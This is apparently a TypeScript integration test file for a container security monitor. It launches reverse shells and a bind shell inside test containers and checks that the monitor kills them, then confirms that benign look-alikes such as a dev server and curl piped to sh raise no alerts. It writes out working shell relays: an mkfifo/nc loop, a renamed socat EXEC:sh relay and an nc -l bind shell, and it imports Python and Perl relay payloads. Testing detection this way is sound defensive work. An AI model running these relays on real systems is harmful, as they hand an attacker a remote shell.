import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditRecord } from '../../../../src/security/audit/record.js';
import { GATEWAY, TEST_PREFIX } from '../../../helpers/testbed.js';
import type { MonitorBed } from '../../../helpers/monitor-bed.js';
import { attackerPort, monitorBedForFile } from '../../../helpers/monitor-bed.js';
import { PERL_PIPE_RELAY, PTY_RELAY, PY_PIPE_RELAY } from '../attack-corpus-table.js';

/**
 * Reverse shells that relay through pipes, fifos and ptys, and bind shells, performed in real
 * containers against the in-process monitor daemon. Every attack runs from a script file or a
 * renamed binary, so no command-line pattern can see it: only the relay check does.
 */

let bed: MonitorBed;
const PORT = attackerPort();
monitorBedForFile(PORT, (b) => (bed = b));

const TARGET = { gateway: GATEWAY, port: PORT, sibling: '' };

/** A dev server: listens on every interface, answers, runs no shell. */
const DEV_SERVER = `import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8123))
s.listen()
while True:
    c, _ = s.accept()
    c.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\nok")
    c.close()
`;

const FIFO_LOOP = `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc ${GATEWAY} ${PORT} > /tmp/f\n`;
const BIND_SHELL = 'rm -f /tmp/b; mkfifo /tmp/b; nc -l -p 4444 < /tmp/b | sh > /tmp/b 2>&1\n';

/**
 * Runs the attack without waiting for it; again when Incus could not start the exec (-1, which
 * happens now and then), unless it ran a while or something was recorded already.
 */
async function fire(container: string, command: string[]): Promise<void> {
  for (let attempt = 1; attempt <= 3; attempt++) {
    const started = Date.now();
    const r = await bed.incus.exec.run(container, command).catch(() => undefined);
    if (r?.exitCode !== -1 || Date.now() - started > 2000) return;
    if ((await bed.records(container)).length > 0) return;
  }
}

/** Launches a container, pushes `files`, fires `command`, and waits for the kill. */
async function attack(
  label: string,
  files: Record<string, string>,
  command: string[],
): Promise<AuditRecord> {
  const c = await bed.launch(label);
  for (const [path, text] of Object.entries(files))
    await bed.incus.files.push(c.name, path, Buffer.from(text));
  void fire(c.name, command);
  const record = await bed.waitForRecord(c.name, (r) => r.level === 'critical');
  await bed.waitForStatus(c.name, undefined);
  expect(record.action).toBe('killed');
  expect(record.title).toBe('Reverse shell detected');
  expect(record.forensic_copy).toMatch(new RegExp(`^${TEST_PREFIX}forensics-${c.hash}-1-\\d+$`));
  return record;
}

describe('reverse shells relayed to a shell', () => {
  it.each([
    [
      'python pty relay',
      'py-pty',
      { '/tmp/relay.py': PTY_RELAY(TARGET) },
      ['python3', '/tmp/relay.py'],
      'pty-relay',
    ],
    [
      'python pipe relay',
      'py-pipe',
      { '/tmp/relay.py': PY_PIPE_RELAY(TARGET) },
      ['python3', '/tmp/relay.py'],
      'pipe-relay',
    ],
    [
      'perl pipe relay',
      'pl-pipe',
      { '/tmp/relay.pl': PERL_PIPE_RELAY(TARGET) },
      ['perl', '/tmp/relay.pl'],
      'pipe-relay',
    ],
    [
      'mkfifo + nc loop',
      'fifo-nc',
      { '/tmp/loop.sh': FIFO_LOOP },
      ['sh', '/tmp/loop.sh'],
      'fifo-relay',
    ],
    [
      'socat exec:pty (renamed)',
      'socat-pty',
      {},
      [
        'sh',
        '-c',
        `cp /usr/bin/socat /tmp/relay && exec /tmp/relay TCP:${GATEWAY}:${PORT} EXEC:sh,pty,stderr,setsid`,
      ],
      'pty-relay',
    ],
    [
      'bind shell (nc -l into sh)',
      'bind-nc',
      { '/tmp/bind.sh': BIND_SHELL },
      ['sh', '/tmp/bind.sh'],
      'bind-shell',
    ],
  ])('kills a %s', async (_what, label, files, command, pattern) => {
    const record = await attack(label, files, command);
    expect(record.evidence).toMatchObject({ process: { pattern } });
  });
});

describe('look-alikes that are not reverse shells', () => {
  let server: Server;
  const HTTP_PORT = PORT + 1;
  beforeAll(async () => {
    // Serves a script slowly, so `curl … | sh` is seen while curl still holds the connection.
    server = createServer((_req, res) => {
      res.write('echo served\n');
      setTimeout(() => res.end('echo done\n'), 1500);
    });
    await new Promise<void>((resolve) => server.listen(HTTP_PORT, GATEWAY, resolve));
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('raises nothing above info for pipes without sockets, a dev server and curl | sh', async () => {
    const c = await bed.launch('relay-benign');
    const run = async (script: string) => {
      const r = await bed.incus.exec.run(c.name, ['sh', '-c', script], { user: 1000, group: 1000 });
      expect(r.exitCode, `${script}: ${r.stderr.toString()}`).toBe(0);
    };
    await run(`python3 -c "import subprocess; subprocess.run(['cat'], input=b'x', check=True)"`);
    await run('printf "echo hi\\nsleep 1.5\\n" | sh');
    await bed.incus.files.push(c.name, '/tmp/serve.py', Buffer.from(DEV_SERVER));
    await run(
      '(python3 /tmp/serve.py & echo $! > /tmp/srv.pid); sleep 1; ' +
        'printf hi | nc -q 1 127.0.0.1 8123; sleep 1; kill $(cat /tmp/srv.pid)',
    );
    await run(`curl -s http://${GATEWAY}:${HTTP_PORT}/ | sh`);
    await new Promise((resolve) => setTimeout(resolve, 3000));
    const loud = (await bed.records(c.name)).filter((r) => r.level !== 'info');
    expect(loud.map((r) => `${r.level} ${r.title}: ${r.description}`)).toEqual([]);
    expect(await bed.status(c.name)).toBe('Running');
  });
});
